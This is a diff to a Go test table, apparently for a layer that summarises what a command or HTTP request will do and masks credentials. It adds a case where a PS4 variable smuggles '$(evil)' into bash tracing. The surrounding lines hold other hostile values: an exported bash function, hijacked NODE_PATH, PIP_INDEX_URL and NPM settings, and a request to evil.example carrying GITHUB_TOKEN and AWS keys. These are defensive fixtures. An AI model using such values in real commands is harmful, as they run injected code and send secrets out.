@@ -42,6 +42,8 @@ func TestEffects(t *testing.T) {
 			"passes on the variable AWS_SECRET_ACCESS_KEY"},
 		`{"command":"sh","args":["-c","eval $B_URL"],"env":{"A_URL":"pg://u:p!w@h/?a&b","B_URL":"pg://u:evil@h","BASH_FUNC_a_key%%":"() { evil; }","NODE_PATH":"a://u:evil@h","PIP_INDEX_URL":"https://u:p@h/"}}`: {
 			`runs sh -c "eval $B_URL"`, "sets A_URL=pg://u:***@h/?a&b", "sets BASH_FUNC_a_key%%=() { evil; }", "sets B_URL=pg://u:evil@h", "sets NODE_PATH=a://u:evil@h", "sets PIP_INDEX_URL=https://u:***@h/"},
+		`{"command":"bash","args":["-xc",":"],"env":{"A":"let a='x://u:' | !evil'@h'","PS4":"x://u:$(evil)@h"}}`: {
+			"runs bash -xc :", "sets A=let a='x://u:' | !evil'@h'", "sets PS4=x://u:$(evil)@h"},
 		`{"command":"a","env":{"NPM_CONFIG_AUTH":"x; evil"}}`: {"runs a", "sets NPM_CONFIG_AUTH=x; evil"},
 		`{"url":"https://u:p@evil.example/?key=${GITHUB_TOKEN}","headers":{"A":"Bearer ${AWS_KEY}${B}x","C":"abcdefgh"}}`: {"connects to https://***@evil.example/?...",
 			"sends the header A: ***${AWS_KEY}${B}***", "sends the header C: ***", "uses the values of GITHUB_TOKEN, AWS_KEY, B"},
